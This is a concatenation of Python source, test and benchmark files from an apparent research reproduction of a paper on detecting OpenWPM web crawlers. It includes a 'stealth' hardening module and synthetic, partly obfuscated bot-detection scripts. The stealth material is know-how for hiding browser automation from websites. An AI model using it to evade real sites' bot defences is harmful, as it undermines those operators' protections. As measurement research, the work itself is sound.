            ("punct", "+"), ("string", "b"), ("punct", ")")]

    def test_template_with_object_literal_inside(self):
        # Braces inside the hole must not terminate it early.
        tokens = tokens_of("`${ {a: 1}.a }`")
        assert tokens.count(("punct", "{")) == 1
        assert tokens[-1] == ("punct", ")")

    def test_unterminated_template_raises(self):
        with pytest.raises(LexError):
            Lexer("`a${x}").tokenize()

    def test_standard_escapes(self):
        assert tokens_of(r"'a\nb\tc'") == [("string", "a\nb\tc")]

    def test_hex_escape(self):
        assert tokens_of(r"'\x77eb'") == [("string", "web")]

    def test_unicode_escape(self):
        assert tokens_of(r"'w'") == [("string", "w")]

    def test_invalid_hex_escape_raises(self):
        with pytest.raises(LexError):
            Lexer(r"'\xZZ'").tokenize()

    def test_unterminated_string_raises(self):
        with pytest.raises(LexError):
            Lexer("'abc").tokenize()

    def test_newline_in_string_raises(self):
        with pytest.raises(LexError):
            Lexer("'a\nb'").tokenize()


class TestCommentsAndWhitespace:
    def test_line_comment_skipped(self):
        assert tokens_of("a // comment\nb") == [
            ("ident", "a"), ("ident", "b")]

    def test_block_comment_skipped(self):
        assert tokens_of("a /* x */ b") == [("ident", "a"), ("ident", "b")]

    def test_unterminated_block_comment_raises(self):
        with pytest.raises(LexError):
            Lexer("/* oops").tokenize()

    def test_newline_before_flag(self):
        tokens = Lexer("a\nb").tokenize()
        assert tokens[0].newline_before is False
        assert tokens[1].newline_before is True

    def test_newline_inside_block_comment_sets_flag(self):
        tokens = Lexer("a /*\n*/ b").tokenize()
        assert tokens[1].newline_before is True


class TestPositions:
    def test_line_and_column(self):
        tokens = Lexer("a\n  b").tokenize()
        assert (tokens[0].line, tokens[0].column) == (1, 1)
        assert (tokens[1].line, tokens[1].column) == (2, 3)

    def test_offsets_recover_source_slice(self):
        source = "function f() { return 1; }"
        tokens = Lexer(source).tokenize()
        assert source[tokens[0].start:tokens[0].end] == "function"

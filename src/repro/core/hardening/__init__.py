"""WPM_hide: hardened instrumentation and stealth (paper Sec. 6).

Five identifiability fixes (Sec. 6.1) and three recording-attack
mitigations (Sec. 6.2), implemented as a drop-in replacement for
OpenWPM's JavaScript instrument:

1. ``toString`` of every wrapper returns the native-code string
   (exported functions, CanvasBlocker-style);
2. no DOM property is added (no script injection, no residue);
3. no instrumentation frames appear in stack traces;
4. wrapping is per-prototype — no pollution;
5. ``navigator.webdriver`` reads false and window geometry is settable;
6. records travel over the extension's private background channel
   (immune to the dispatcher attacks and to CSP);
7. frame protection instruments new frames/popups synchronously.
"""

from repro.core.hardening.stealth import StealthJSInstrument
from repro.core.hardening.settings import StealthSettings
from repro.core.hardening.errors import sanitize_error_stack
from repro.core.hardening.debugger_instrument import DebuggerJSInstrument

__all__ = [
    "StealthJSInstrument",
    "StealthSettings",
    "sanitize_error_stack",
    "DebuggerJSInstrument",
]

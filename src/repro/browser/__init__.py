"""Browser substrate: fingerprint profiles, windows, cookies, extensions.

This package models the client side of the paper's experiments: an
(unbranded) Firefox in its various run modes, consumer browsers for
validating the fingerprint surface, the WebExtension contexts that
OpenWPM's instrumentation lives in, and a page/event loop.
"""

from repro.browser.profiles import (
    BrowserProfile,
    chrome_profile,
    consumer_profiles,
    openwpm_profile,
    safari_profile,
    stock_firefox_profile,
)
from repro.browser.cookies import Cookie, CookieJar
from repro.browser.browser import Browser, VisitResult
from repro.browser.window import BrowserWindow
from repro.browser.extension import ExtensionContext

__all__ = [
    "BrowserProfile",
    "openwpm_profile",
    "stock_firefox_profile",
    "chrome_profile",
    "safari_profile",
    "consumer_profiles",
    "Cookie",
    "CookieJar",
    "Browser",
    "VisitResult",
    "BrowserWindow",
    "ExtensionContext",
]

"""Property descriptors.

JavaScript properties are either *data* descriptors (a value plus
writability) or *accessor* descriptors (getter/setter functions). The
OpenWPM JavaScript instrument — and the attacks against it — work by
replacing descriptors, so the model implements them in full.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Optional

from repro.jsobject.values import UNDEFINED


@dataclass
class PropertyDescriptor:
    """A JS property descriptor.

    Exactly one of the two shapes is populated:

    * data descriptor: ``value`` (+ ``writable``)
    * accessor descriptor: ``get`` / ``set``
    """

    value: Any = UNDEFINED
    get: Optional[Any] = None  # JSFunction or None
    set: Optional[Any] = None  # JSFunction or None
    writable: bool = True
    enumerable: bool = True
    configurable: bool = True
    #: Free-form metadata used by tooling (e.g. the instrumentation marks
    #: wrapped descriptors). Invisible to page scripts.
    meta: dict = field(default_factory=dict)

    @property
    def is_accessor(self) -> bool:
        return self.get is not None or self.set is not None

    @classmethod
    def data(cls, value: Any, writable: bool = True, enumerable: bool = True,
             configurable: bool = True) -> "PropertyDescriptor":
        """Build a data descriptor."""
        return cls(value=value, writable=writable, enumerable=enumerable,
                   configurable=configurable)

    @classmethod
    def accessor(cls, get: Any = None, set: Any = None, enumerable: bool = True,
                 configurable: bool = True) -> "PropertyDescriptor":
        """Build an accessor descriptor."""
        return cls(get=get, set=set, enumerable=enumerable,
                   configurable=configurable)

    def copy(self) -> "PropertyDescriptor":
        return PropertyDescriptor(
            value=self.value, get=self.get, set=self.set,
            writable=self.writable, enumerable=self.enumerable,
            configurable=self.configurable, meta=dict(self.meta),
        )

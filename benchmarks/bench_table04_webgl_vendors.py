"""Table 4: WebGL vendors and avail{Top,Left} per Ubuntu run mode."""

from conftest import report

PAPER = {
    "regular": ("AMD", (27, 72)),
    "headless": (None, (0, 0)),
    "xvfb": ("Mesa/X.org", (0, 0)),
    "docker": ("VMware, Inc.", (27, 72)),
}


def test_benchmark_table4(benchmark):
    from repro.browser.profiles import openwpm_profile
    from repro.core.fingerprint import run_probes
    from repro.core.lab import make_window

    def probe_modes():
        out = {}
        for mode in PAPER:
            _, window = make_window(openwpm_profile("ubuntu", mode))
            out[mode] = run_probes(window)
        return out

    probes = benchmark.pedantic(probe_modes, rounds=1, iterations=1)

    lines = ["| mode | WebGL vendor | availTop, availLeft | paper |",
             "|---|---|---|---|"]
    for mode, (vendor, avail) in PAPER.items():
        p = probes[mode]
        measured_vendor = p["webglVendor"]
        measured_avail = (int(p["availTop"]), int(p["availLeft"]))
        lines.append(f"| {mode} | {measured_vendor} | {measured_avail} | "
                     f"{vendor}, {avail} |")
        assert measured_vendor == vendor
        assert measured_avail == avail
    report("table04_webgl_vendors",
           "Table 4 - Ubuntu no-display mode deviations", lines)

"""Fingerprint profiles per (browser, OS, run mode).

The profile database encodes the deviation structure the paper measured
(Tables 2, 3, 4): every OpenWPM run mode differs from a stock Firefox in
specific, reproducible ways — fixed screen geometry and window position,
``navigator.webdriver``, missing WebGL in headless mode, llvmpipe/VMware
renderers under Xvfb/Docker, a single font and UTC timezone in Docker,
and extra ``navigator.languages`` properties in headless mode.

Values that the real study measured on physical machines (exact WebGL
parameter sets) are generated deterministically with matching
cardinalities, so surface *diffs* have the paper's shape.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional, Tuple

# ---------------------------------------------------------------------------
# WebGL property universe
# ---------------------------------------------------------------------------

_REAL_WEBGL_NAMES = [
    "VENDOR", "RENDERER", "VERSION", "SHADING_LANGUAGE_VERSION",
    "MAX_TEXTURE_SIZE", "MAX_VIEWPORT_DIMS", "MAX_RENDERBUFFER_SIZE",
    "MAX_VERTEX_ATTRIBS", "MAX_VERTEX_UNIFORM_VECTORS",
    "MAX_FRAGMENT_UNIFORM_VECTORS", "MAX_VARYING_VECTORS",
    "MAX_COMBINED_TEXTURE_IMAGE_UNITS", "MAX_TEXTURE_IMAGE_UNITS",
    "MAX_VERTEX_TEXTURE_IMAGE_UNITS", "MAX_CUBE_MAP_TEXTURE_SIZE",
    "ALIASED_LINE_WIDTH_RANGE", "ALIASED_POINT_SIZE_RANGE",
    "DEPTH_BITS", "STENCIL_BITS", "RED_BITS", "GREEN_BITS", "BLUE_BITS",
    "ALPHA_BITS", "SUBPIXEL_BITS", "SAMPLE_BUFFERS", "SAMPLES",
    "COMPRESSED_TEXTURE_FORMATS", "UNMASKED_VENDOR_WEBGL",
    "UNMASKED_RENDERER_WEBGL", "MAX_ANISOTROPY_EXT",
]

#: Shared-core cardinality: properties every Firefox-engine client has.
_WEBGL_CORE_COUNT = 2000
#: Per-OS extras (macOS HM missing 2037 total, Ubuntu HM missing 2061).
_WEBGL_MACOS_EXTRA = 2037 - _WEBGL_CORE_COUNT
_WEBGL_UBUNTU_EXTRA = 2061 - _WEBGL_CORE_COUNT
#: Properties that also occur on non-Firefox browsers (paper Sec. 3.3
#: found ~200 of the WebGL deviations were not unique to OpenWPM).
_WEBGL_SHARED_WITH_OTHER_BROWSERS = 200


def _stable_token(namespace: str, index: int) -> str:
    digest = hashlib.sha256(f"{namespace}:{index}".encode()).hexdigest()
    return digest[:8]


def _generated_webgl_names(namespace: str, count: int) -> List[str]:
    return [f"GL_{namespace.upper()}_{_stable_token(namespace, i)}"
            for i in range(count)]


def webgl_property_names(os_name: str) -> List[str]:
    """The WebGL property names a regular Firefox exposes on *os_name*."""
    names = list(_REAL_WEBGL_NAMES)
    names.extend(_generated_webgl_names(
        "core", _WEBGL_CORE_COUNT - len(_REAL_WEBGL_NAMES)))
    if os_name == "macos":
        names.extend(_generated_webgl_names("macos", _WEBGL_MACOS_EXTRA))
    else:
        names.extend(_generated_webgl_names("ubuntu", _WEBGL_UBUNTU_EXTRA))
    return names


def _default_webgl_values(names: List[str], vendor: str,
                          renderer: str) -> Dict[str, Any]:
    values: Dict[str, Any] = {}
    for name in names:
        if name in ("VENDOR", "UNMASKED_VENDOR_WEBGL"):
            values[name] = vendor
        elif name in ("RENDERER", "UNMASKED_RENDERER_WEBGL"):
            values[name] = renderer
        elif name == "VERSION":
            values[name] = "WebGL 1.0"
        elif name == "SHADING_LANGUAGE_VERSION":
            values[name] = "WebGL GLSL ES 1.0"
        else:
            # Deterministic numeric parameter.
            values[name] = float(int(
                hashlib.sha256(name.encode()).hexdigest()[:4], 16))
    return values


# ---------------------------------------------------------------------------
# Profile dataclass
# ---------------------------------------------------------------------------

@dataclass
class BrowserProfile:
    """Everything that determines a client's JS-visible fingerprint."""

    name: str
    browser: str  # 'firefox' | 'chrome' | 'safari' | 'opera'
    os: str  # 'macos' | 'ubuntu'
    mode: str  # 'regular' | 'headless' | 'xvfb' | 'docker'
    browser_version: int = 100
    #: navigator.* data properties.
    navigator: Dict[str, Any] = field(default_factory=dict)
    #: Extra properties polluting navigator.languages (headless quirk).
    languages_extra: List[str] = field(default_factory=list)
    #: screen.* properties.
    screen: Dict[str, float] = field(default_factory=dict)
    window_size: Tuple[int, int] = (1366, 683)
    window_position: Tuple[int, int] = (0, 0)
    window_offset: Tuple[int, int] = (0, 0)
    #: WebGL parameter map; None models a missing WebGL implementation.
    webgl: Optional[Dict[str, Any]] = None
    fonts: List[str] = field(default_factory=list)
    timezone_offset: int = -60  # minutes, JS getTimezoneOffset convention
    #: True when driven by WebDriver (sets navigator.webdriver).
    automation: bool = False
    #: Free-form notes for reports.
    notes: str = ""

    @property
    def is_display_less(self) -> bool:
        return self.mode in ("headless", "xvfb")

    @property
    def has_webgl(self) -> bool:
        return self.webgl is not None


_DEFAULT_FONTS = [
    "Arial", "Courier New", "DejaVu Sans", "DejaVu Serif", "FreeMono",
    "FreeSans", "Georgia", "Helvetica", "Liberation Mono",
    "Liberation Sans", "Noto Sans", "Times New Roman", "Ubuntu",
    "Ubuntu Mono", "Verdana",
]

_FIREFOX_UA = (
    "Mozilla/5.0 ({os_token}; rv:{version}.0) Gecko/20100101 "
    "Firefox/{version}.0")
_OS_TOKENS = {
    "macos": "Macintosh; Intel Mac OS X 10.15",
    "ubuntu": "X11; Ubuntu; Linux x86_64",
}


def _firefox_navigator(os_name: str, version: int,
                       automation: bool) -> Dict[str, Any]:
    extra: Dict[str, Any] = {}
    if os_name == "macos":
        # macOS builds expose one extra navigator property, which is why
        # the instrument tampers with 253 properties there vs 252
        # elsewhere (Table 2).
        extra["standalone"] = False
    return {
        **extra,
        "userAgent": _FIREFOX_UA.format(os_token=_OS_TOKENS[os_name],
                                        version=version),
        "platform": "MacIntel" if os_name == "macos" else "Linux x86_64",
        "appName": "Netscape",
        "appVersion": "5.0 (X11)" if os_name == "ubuntu" else "5.0 (Macintosh)",
        "product": "Gecko",
        "vendor": "",
        "language": "en-US",
        "languages": ["en-US", "en"],
        "hardwareConcurrency": 8.0,
        "doNotTrack": "unspecified",
        "cookieEnabled": True,
        "onLine": True,
        "webdriver": automation,
        "oscpu": "Intel Mac OS X 10.15" if os_name == "macos"
        else "Linux x86_64",
        "buildID": "20181001000000",
        "maxTouchPoints": 0.0,
        "pdfViewerEnabled": True,
        "productSub": "20100101",
    }


def _screen_props(resolution: Tuple[int, int],
                  avail_top: int, avail_left: int) -> Dict[str, float]:
    width, height = resolution
    return {
        "width": float(width),
        "height": float(height),
        "availWidth": float(width - avail_left),
        "availHeight": float(height - avail_top),
        "availTop": float(avail_top),
        "availLeft": float(avail_left),
        "colorDepth": 24.0,
        "pixelDepth": 24.0,
        "top": 0.0,
        "left": 0.0,
    }


# Table 3 / Table 4 geometry and renderer constants.
_OPENWPM_GEOMETRY = {
    # (os, mode): resolution, window position (X, Y), offset, availTop/Left
    ("macos", "regular"): ((2560, 1440), (23, 4), (0, 0), (23, 0)),
    ("macos", "headless"): ((1366, 768), (4, 4), (0, 0), (0, 0)),
    ("ubuntu", "regular"): ((2560, 1440), (80, 35), (8, 8), (27, 72)),
    ("ubuntu", "headless"): ((1366, 768), (0, 0), (0, 0), (0, 0)),
    ("ubuntu", "xvfb"): ((1366, 768), (0, 0), (0, 0), (0, 0)),
    ("ubuntu", "docker"): ((2560, 1440), (0, 0), (0, 0), (27, 72)),
}

_WEBGL_RENDERERS = {
    ("macos", "regular"): ("Apple", "Apple M1, or similar"),
    ("ubuntu", "regular"): ("AMD", "AMD TAHITI"),
    ("ubuntu", "xvfb"): ("Mesa/X.org",
                         "llvmpipe (LLVM 12.0.0, 256 bits)"),
    ("ubuntu", "docker"): ("VMware, Inc.",
                           "llvmpipe (LLVM 10.0.0, 256 bits)"),
    ("macos", "xvfb"): ("Mesa/X.org", "llvmpipe (LLVM 12.0.0, 256 bits)"),
    ("macos", "docker"): ("VMware, Inc.",
                          "llvmpipe (LLVM 10.0.0, 256 bits)"),
}

#: Cardinalities of WebGL deviations relative to a regular Firefox
#: (Table 2/Sec. 3.1.2): Xvfb shows 5 changed + 13 missing = 18 total.
#: Four of the changed ones are the vendor/renderer parameters (already
#: deviating via the llvmpipe strings), so one extra change is injected.
_XVFB_CHANGED, _XVFB_MISSING = 1, 13
_DOCKER_CHANGED = 27


def stock_firefox_profile(os_name: str = "ubuntu", version: int = 100,
                          resolution: Tuple[int, int] = (1920, 1080),
                          ) -> BrowserProfile:
    """A human-driven Firefox on a desktop machine (the diff baseline)."""
    avail_top, avail_left = (27, 72) if os_name == "ubuntu" else (23, 0)
    names = webgl_property_names(os_name)
    vendor, renderer = _WEBGL_RENDERERS[(os_name, "regular")]
    return BrowserProfile(
        name=f"firefox-{os_name}",
        browser="firefox",
        os=os_name,
        mode="regular",
        browser_version=version,
        navigator=_firefox_navigator(os_name, version, automation=False),
        screen=_screen_props(resolution, avail_top, avail_left),
        window_size=(1280, 940),
        window_position=(214, 97),
        window_offset=(0, 0),
        webgl=_default_webgl_values(names, vendor, renderer),
        fonts=list(_DEFAULT_FONTS),
        timezone_offset=-60,
        automation=False,
    )


def openwpm_profile(os_name: str = "ubuntu", mode: str = "regular",
                    version: int = 100,
                    window_size: Optional[Tuple[int, int]] = None,
                    window_position: Optional[Tuple[int, int]] = None,
                    ) -> BrowserProfile:
    """An OpenWPM-driven unbranded Firefox in the given run mode.

    ``window_size`` / ``window_position`` override the framework's fixed
    defaults — the knob the hardened configuration exposes (Sec. 6.1.5).
    """
    if (os_name, mode) not in _OPENWPM_GEOMETRY:
        raise ValueError(f"unsupported setup: {os_name}/{mode}")
    resolution, position, offset, avail = _OPENWPM_GEOMETRY[(os_name, mode)]
    avail_top, avail_left = avail
    navigator = _firefox_navigator(os_name, version, automation=True)
    languages_extra: List[str] = []
    if mode == "headless":
        languages_extra = [f"hdl_{_stable_token('langpollution', i)}"
                           for i in range(43)]

    names = webgl_property_names(os_name)
    webgl: Optional[Dict[str, Any]]
    if mode == "headless":
        webgl = None  # headless Firefox lacks a WebGL implementation
    else:
        vendor, renderer = _WEBGL_RENDERERS[(os_name, mode)]
        webgl = _default_webgl_values(names, vendor, renderer)
        if mode == "xvfb":
            for name in names[10:10 + _XVFB_CHANGED]:
                webgl[name] = "xvfb-deviation"
            for name in names[40:40 + _XVFB_MISSING]:
                del webgl[name]
        elif mode == "docker":
            # vendor/renderer rows already deviate; change more parameters
            # until exactly _DOCKER_CHANGED properties differ.
            already = 4  # VENDOR, RENDERER, UNMASKED_*
            for name in names[60:60 + (_DOCKER_CHANGED - already)]:
                webgl[name] = "vmware-deviation"

    fonts = list(_DEFAULT_FONTS)
    timezone_offset = -60
    if mode == "docker":
        fonts = ["Bitstream Vera Sans Mono"]
        timezone_offset = 0

    return BrowserProfile(
        name=f"openwpm-{os_name}-{mode}",
        browser="firefox",
        os=os_name,
        mode=mode,
        browser_version=version,
        navigator=navigator,
        languages_extra=languages_extra,
        screen=_screen_props(resolution, avail_top, avail_left),
        window_size=window_size or (1366, 683),
        window_position=window_position or position,
        window_offset=offset,
        webgl=webgl,
        fonts=fonts,
        timezone_offset=timezone_offset,
        automation=True,
    )


def _other_browser_profile(browser: str, os_name: str,
                           user_agent: str, vendor: str,
                           renderer: str) -> BrowserProfile:
    """A non-Firefox consumer browser (for detector validation).

    Shares ~200 WebGL property names/values with the Firefox universe
    (the overlap the paper found and removed in Sec. 3.3); the rest of
    its surface is its own.
    """
    shared = webgl_property_names(os_name)[:_WEBGL_SHARED_WITH_OTHER_BROWSERS]
    webgl = _default_webgl_values(shared, vendor, renderer)
    webgl.update({
        f"GL_{browser.upper()}_{_stable_token(browser, i)}": float(i)
        for i in range(1800)
    })
    navigator = {
        "userAgent": user_agent,
        "platform": "MacIntel" if os_name == "macos" else "Linux x86_64",
        "language": "en-US",
        "languages": ["en-US", "en"],
        "webdriver": False,
        "vendor": "Google Inc." if browser in ("chrome", "opera")
        else "Apple Computer, Inc." if browser == "safari" else "",
        "hardwareConcurrency": 8.0,
        "cookieEnabled": True,
    }
    return BrowserProfile(
        name=f"{browser}-{os_name}",
        browser=browser,
        os=os_name,
        mode="regular",
        navigator=navigator,
        screen=_screen_props((1920, 1080), 23 if os_name == "macos" else 27,
                             0 if os_name == "macos" else 72),
        window_size=(1400, 900),
        window_position=(120, 80),
        webgl=webgl,
        fonts=list(_DEFAULT_FONTS),
        timezone_offset=-60,
        automation=False,
    )


def chrome_profile(os_name: str = "ubuntu") -> BrowserProfile:
    return _other_browser_profile(
        "chrome", os_name,
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like "
        "Gecko) Chrome/102.0.5005.61 Safari/537.36",
        "Google Inc. (Intel)", "ANGLE (Intel, Mesa Intel(R) UHD)")


def safari_profile(os_name: str = "macos") -> BrowserProfile:
    return _other_browser_profile(
        "safari", os_name,
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) "
        "AppleWebKit/605.1.15 (KHTML, like Gecko) Version/15.5 Safari/605.1.15",
        "Apple Inc.", "Apple GPU")


def opera_profile(os_name: str = "ubuntu") -> BrowserProfile:
    return _other_browser_profile(
        "opera", os_name,
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like "
        "Gecko) Chrome/102.0.0.0 Safari/537.36 OPR/88.0.4412.27",
        "Google Inc. (AMD)", "ANGLE (AMD Radeon)")


def consumer_profiles() -> List[BrowserProfile]:
    """The validation fleet of Sec. 3.3: 2 Macs + 2 Ubuntu PCs, each with
    the common consumer browsers."""
    profiles: List[BrowserProfile] = []
    for os_name in ("macos", "ubuntu"):
        profiles.append(stock_firefox_profile(os_name))
        profiles.append(chrome_profile(os_name))
        profiles.append(opera_profile(os_name))
    profiles.append(safari_profile("macos"))
    return profiles

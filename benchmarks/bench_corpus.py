"""Script corpus: dedup, memoized-analysis speedup, and memory.

The scan's old data path kept one raw copy of every collected script
per occurrence (each site's evidence carried full sources) and re-ran
the regex battery on every occurrence for every (re)classification.
The content-addressed corpus stores each distinct body once
(zlib-compressed) and memoizes the static-analysis verdict per
``(hash, pattern_version, preprocess)``.

Two claims are pinned here:

* repeat classification over a realistic high-duplication workload is
  at least 2x faster with a warm analysis cache than with the cache
  disabled (every occurrence decompressed and re-scanned);
* the bytes resident for script storage drop by an order of magnitude
  versus per-occurrence raw copies.
"""

import gc
import time

from conftest import report

from repro.core.scan.static_analysis import scan_script
from repro.corpus import ScriptCorpus, script_hash

#: Distinct script bodies in the workload.
UNIQUE_SCRIPTS = 40
#: Sites referencing them; each site includes SCRIPTS_PER_SITE bodies.
SITES = 400
SCRIPTS_PER_SITE = 8
SPEEDUP_FLOOR = 2.0

_FILLER = ("function u%d(a,b){var c=a+b;for(var i=0;i<8;i++)"
           "{c+=Math.sqrt(c+i)*1.0001;}return c;}\n")


def _unique_sources():
    """Deterministic mix: detectors, obfuscated variants, benign libs."""
    sources = []
    for index in range(UNIQUE_SCRIPTS):
        pad = "".join(_FILLER % (index * 100 + line)
                      for line in range(60 + index))
        if index % 5 == 0:
            head = "if (navigator.webdriver) { beacon('%d'); }\n" % index
        elif index % 5 == 1:
            head = ('var p = navigator["\\x77\\x65\\x62\\x64\\x72\\x69'
                    '\\x76\\x65\\x72"]; // variant %d\n' % index)
        elif index % 5 == 2:
            head = "/* bundle %d */ window.instrumentFingerprintingApis" \
                   " && probe();\n" % index
        else:
            head = "// benign bundle %d\n" % index
        sources.append(head + pad)
    return sources


def _occurrences():
    """(site, script-index) pairs, head-heavy like real inclusion."""
    out = []
    for site in range(SITES):
        out.append((site, 0))  # the one shared library everyone loads
        for slot in range(1, SCRIPTS_PER_SITE):
            out.append((site, (site * 3 + slot * 7) % UNIQUE_SCRIPTS))
    return out


def _sweep(corpus, digests, occurrences):
    matched = 0
    for _, index in occurrences:
        matched += len(corpus.scan(digests[index], preprocess=True).matched)
        matched += len(corpus.scan(digests[index],
                                   preprocess=False).matched)
    return matched


def measure_corpus(rounds=3):
    sources = _unique_sources()
    occurrences = _occurrences()

    cached = ScriptCorpus()
    uncached = ScriptCorpus(cache_enabled=False)
    digests = [script_hash(source) for source in sources]
    for corpus in (cached, uncached):
        for site in range(SITES):
            batch = corpus.site_batch(f"site{site}.test")
            for occ_site, index in occurrences[
                    site * SCRIPTS_PER_SITE:(site + 1) * SCRIPTS_PER_SITE]:
                assert occ_site == site
                batch.add(f"https://cdn.test/{index}.js", sources[index])
            batch.flush_visit()
            corpus.promote(f"site{site}.test", batch.token)

    baseline = _sweep(cached, digests, occurrences)  # warm the cache
    best = {"warm": float("inf"), "disabled": float("inf")}
    for _ in range(rounds):
        for mode, corpus in (("disabled", uncached), ("warm", cached)):
            gc.collect()
            start = time.perf_counter()
            matched = _sweep(corpus, digests, occurrences)
            best[mode] = min(best[mode], time.perf_counter() - start)
            assert matched == baseline  # cache must not change verdicts

    raw_occurrence_bytes = sum(
        len(sources[index].encode()) for _, index in occurrences)
    stats = cached.stats()
    direct = len(scan_script(sources[0]).matched)
    assert direct == len(cached.scan(digests[0]).matched)
    cached.close()
    uncached.close()
    return {
        "best": best,
        "speedup": best["disabled"] / best["warm"],
        "scans": len(occurrences) * 2,
        "raw_occurrence_bytes": raw_occurrence_bytes,
        "unique_raw_bytes": sum(len(s.encode()) for s in sources),
        "corpus_bytes": stats["corpus_bytes"],
        "memory_reduction": raw_occurrence_bytes / stats["corpus_bytes"],
        "cache_hit_rate": stats["cache_hit_rate"],
    }


def test_benchmark_corpus(benchmark):
    result = benchmark.pedantic(lambda: measure_corpus(rounds=3),
                                rounds=1, iterations=1)
    best = result["best"]
    lines = [
        f"({SITES} sites x {SCRIPTS_PER_SITE} scripts/site over "
        f"{UNIQUE_SCRIPTS} distinct bodies; {result['scans']} static",
        " scans per sweep, both preprocess settings; best of 3.)",
        "",
        "| metric | value |",
        "|---|---|",
        f"| sweep, cache disabled | {best['disabled']:.3f} s |",
        f"| sweep, warm cache | {best['warm']:.3f} s |",
        f"| speedup | {result['speedup']:.1f}x |",
        f"| cache hit rate | {result['cache_hit_rate']:.3f} |",
        f"| raw bytes (one copy per occurrence, old data path) "
        f"| {result['raw_occurrence_bytes']:,} |",
        f"| raw bytes (distinct bodies) "
        f"| {result['unique_raw_bytes']:,} |",
        f"| corpus bytes (compressed, content-addressed) "
        f"| {result['corpus_bytes']:,} |",
        f"| resident-bytes reduction | "
        f"{result['memory_reduction']:.1f}x |",
    ]
    report("corpus", "Script corpus - dedup and memoized analysis", lines)

    assert result["speedup"] >= SPEEDUP_FLOOR, result
    assert result["memory_reduction"] > 10.0, result

"""Edge-case tests for the template traversal and surface helpers."""

import pytest

from repro.core.fingerprint.template import (
    MAX_DEPTH,
    Template,
    _characterise,
    capture_template,
)
from repro.core.fingerprint.surface import (
    FingerprintSurface,
    SurfaceDelta,
    diff_templates,
)
from repro.jsobject import NULL, UNDEFINED, JSArray, JSObject, \
    NativeFunction


class TestCharacterise:
    def test_primitives(self):
        assert _characterise(UNDEFINED) == "undefined"
        assert _characterise(NULL) == "null"
        assert _characterise(True) == "boolean:true"
        assert _characterise(2.0) == "number:2"
        assert _characterise("x") == "string:x"

    def test_long_strings_hashed(self):
        long_value = "A" * 500
        out = _characterise(long_value)
        assert out.startswith("string:sha:")
        assert len(out) < 30

    def test_native_vs_script_functions(self):
        native = NativeFunction(lambda i, t, a: None, name="fillRect")
        assert _characterise(native) == "function:native:fillRect"

    def test_array_by_length(self):
        assert _characterise(JSArray([1.0, 2.0])) == "array:2"

    def test_object_by_class(self):
        assert _characterise(JSObject(class_name="Screen")) \
            == "object:Screen"


class TestTraversalSafety:
    def test_cycles_become_refs(self, stock_window):
        window = stock_window
        a = JSObject(class_name="A")
        b = JSObject(class_name="B")
        a.put("next", b)
        b.put("back", a)
        window.window_object.put("cycleRoot", a)
        template = capture_template(window)
        assert any(value.startswith("ref:")
                   for value in template.properties.values())

    def test_depth_limit_respected(self, stock_window):
        window = stock_window
        deep = JSObject()
        node = deep
        for _ in range(MAX_DEPTH + 5):
            child = JSObject()
            node.put("child", child)
            node = child
        node.put("leaf", "bottom")
        window.window_object.put("deepRoot", deep)
        template = capture_template(window)
        assert not any("leaf" in path for path in template.properties)

    def test_node_budget_bounds_output(self, stock_window):
        template = capture_template(stock_window, max_nodes=100)
        assert len(template) <= 120  # budget + object markers

    def test_throwing_getter_recorded(self, stock_window):
        from repro.jsobject import PropertyDescriptor
        from repro.jsobject.errors import JSError

        def bomb(interp, this, args):
            raise JSError.type_error("boom")

        target = JSObject(class_name="Trap")
        target.define_property("mine", PropertyDescriptor.accessor(
            get=NativeFunction(bomb, name="mine")))
        stock_window.window_object.put("trap", target)
        template = capture_template(stock_window)
        assert template.properties.get("window.trap.mine") == "throws"


class TestSurfaceHelpers:
    def _surface(self, deltas):
        return FingerprintSurface(client_name="x", baseline_name="y",
                                  deltas=deltas)

    def test_of_kind_and_under(self):
        surface = self._surface([
            SurfaceDelta("window.a", "added", None, "number:1"),
            SurfaceDelta("window.b.c", "missing", "number:2", None),
        ])
        assert len(surface.of_kind("added")) == 1
        assert len(surface.under("b.c")) == 1

    def test_added_custom_functions_only_top_level(self):
        surface = self._surface([
            SurfaceDelta("window.getInstrumentJS", "added", None,
                         "function:script:abc"),
            SurfaceDelta("window.deep.fn", "added", None,
                         "function:script:abc"),
        ])
        assert len(surface.added_custom_functions()) == 1

    def test_diff_orders_are_symmetric_in_count(self):
        a = Template("a", {"p": "number:1", "q": "number:2"})
        b = Template("b", {"p": "number:1", "r": "number:3"})
        forward = diff_templates(a, b)
        backward = diff_templates(b, a)
        assert len(forward) == len(backward) == 2
        assert {d.kind for d in forward.deltas} == {"added", "missing"}

"""The 72 peer-reviewed OpenWPM studies (paper Tables 1 and 15).

Each :class:`Study` records what the paper's literature review captured:
which instruments the study used (``"oob"`` marks aspects measured via
out-of-band mechanisms, the table's 'o'), the run mode(s), deployment on
VMs/cloud, interaction, subpage crawling, use of anti-bot-detection
features, and whether bot detection is mentioned at all.

Transcribed from Table 15; summary aggregation reproduces Table 1.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Tuple

MODE_UNSPECIFIED = "u"
MODE_NATIVE = "n"
MODE_HEADLESS = "h"
MODE_XVFB = "x"
MODE_DOCKER = "d"


@dataclass(frozen=True)
class Study:
    year: int
    ref: str
    venue: str
    first_author: str
    modes: Tuple[str, ...] = (MODE_UNSPECIFIED,)
    vm: bool = False
    #: instrument usage: True (OpenWPM instrument), False, or "oob".
    cookies: object = False
    http: object = False
    javascript: object = False
    other_measure: bool = False
    scrolling: bool = False
    clicking: bool = False
    typing: bool = False
    subpages: bool = False
    anti_bot_detection: bool = False
    mentions_bot_detection: bool = False


def _s(year, ref, venue, author, modes="u", vm=False, c=False, h=False,
       j=False, other=False, scroll=False, click=False, type_=False,
       sub=False, anti=False, bd=False) -> Study:
    return Study(year=year, ref=ref, venue=venue, first_author=author,
                 modes=tuple(modes.split("/")), vm=vm, cookies=c, http=h,
                 javascript=j, other_measure=other, scrolling=scroll,
                 clicking=click, typing=type_, subpages=sub,
                 anti_bot_detection=anti, mentions_bot_detection=bd)


STUDIES: List[Study] = [
    _s(2014, "[2]", "CCS", "Acar", "u", vm=True, c="oob", h="oob", j=True),
    _s(2015, "[69]", "CoSN", "Robinson", "u", other=True, click=True,
       type_=True),
